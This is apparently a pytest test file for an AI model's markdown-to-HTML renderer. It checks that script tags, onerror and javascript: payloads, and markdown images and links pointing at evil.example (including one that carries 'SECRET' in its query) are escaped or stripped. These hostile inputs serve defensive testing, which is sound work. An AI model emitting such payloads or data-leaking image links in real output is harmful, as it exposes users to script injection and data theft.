from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.web.look.markup import Links, to_html
from assistant.web.look.safe import Html, fill

CITED = "https://shop.example/livraison"
LINKS = Links([CITED, "javascript:alert(1)"], ["https://www.brand.example"])
ALLOWED = {"p", "br", "strong", "em", "ul", "ol", "li", "code", "pre", "blockquote", "hr", "h4", "a"}


class Seen(HTMLParser):
    """The tags and attributes that a browser would find."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Bonjour **vous**", "<p>Bonjour <strong>vous</strong></p>"),
        ("a\nb", "<p>a<br />&#10;b</p>"),
        ("- a\n- b", "<ul>&#10;<li>a</li>&#10;<li>b</li>&#10;</ul>"),
        ("# Titre", "<h4>Titre</h4>"),
        ("<img src=x onerror=alert(1)>", "<p>&lt;img src=x onerror=alert(1)&gt;</p>"),
        ("<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
        (
            "<form action=http://evil.example><input>",
            "<p>&lt;form action=http://evil.example&gt;&lt;input&gt;</p>",
        ),
        ("a ![x](http://evil.example/?d=SECRET) b", "<p>a  b</p>"),
        ("![x][1]\n\n[1]: http://evil.example", "<p>![x][1]</p>&#10;<p>[1]: http://evil.example</p>"),
        ("[clic](http://evil.example)", "<p>clic</p>"),
        ("[clic](javascript:alert(1))", "<p>[clic](javascript:alert(1))</p>"),
        ("[clic](data:text/html,x)", "<p>[clic](data:text/html,x)</p>"),
        ("<http://evil.example>", "<p>&lt;http://evil.example&gt;</p>"),
        ("[![x](http://evil.example/i)](http://evil.example)", "<p></p>"),
        (
            f"[page]({CITED})",
            f'<p><a href="{CITED}" rel="noopener noreferrer" target="_blank">page</a></p>',
        ),
        (
            "[b](https://www.brand.example/c)",
            '<p><a href="https://www.brand.example/c" rel="noopener noreferrer" target="_blank">b</a></p>',
        ),
        ("[x](https://www.brand.example@evil.example/)", "<p>x</p>"),
        ("[x](https://www.brand.example.evil.example/)", "<p>x</p>"),
        ("[x](http://www.brand.example/)", "<p>x</p>"),
        ("[x](//www.brand.example/)", "<p>x</p>"),
        ("```\na\n\n<b>\n```", "<pre><code>a&#10;&#10;&lt;b&gt;&#10;</code></pre>"),
        ('```x" onload=alert(1)\na\n```', "<pre><code>a&#10;</code></pre>"),
        ("", ""),
    ],
)
def test_what_a_text_becomes(text: str, html: str) -> None:
    assert to_html(text, LINKS) == html


@given(st.text() | st.text(alphabet="<>[]()!#*_`\"'&;:/\\\n ahrefsrcimgonld1="))
def test_nothing_but_known_tags_and_links_comes_out(text: str) -> None:
    seen = Seen(to_html(text, LINKS))
    assert set(seen.tags) <= ALLOWED
    assert {name for name, _ in seen.attributes} <= {"href", "rel", "target", "start"}
    for name, value in seen.attributes:
        if name == "href":
            assert value == CITED or urlsplit(value or "").hostname == "www.brand.example"


@given(st.text(alphabet="ab \n\r\t`~-#>*1."))
def test_no_line_ends_come_out(text: str) -> None:
    assert "\n" not in to_html(text, LINKS)


def test_markers_become_what_the_page_wants() -> None:
    def marker(number: int) -> Html | None:
        return fill("<b>{}</b>", number) if number < 3 else None

    assert (
        to_html("A [1], b [1, 2]; c [7].", LINKS, marker) == "<p>A <b>1</b>, b <b>1</b><b>2</b>; c [7].</p>"
    )
    assert to_html("`[1]`", LINKS, marker) == "<p><code>[1]</code></p>"


@pytest.mark.parametrize(
    "url",
    ["", "ftp://www.brand.example/", "https://[", "mailto:a@b.example", "https://u:p@www.brand.example/"],
)
def test_addresses_that_are_never_linked(url: str) -> None:
    assert not LINKS.allows(url)


def test_filling_escapes_all_but_html() -> None:
    assert fill("<p>{} {}</p>", "<b>", Html("<i>")) == "<p>&lt;b&gt; <i></p>"
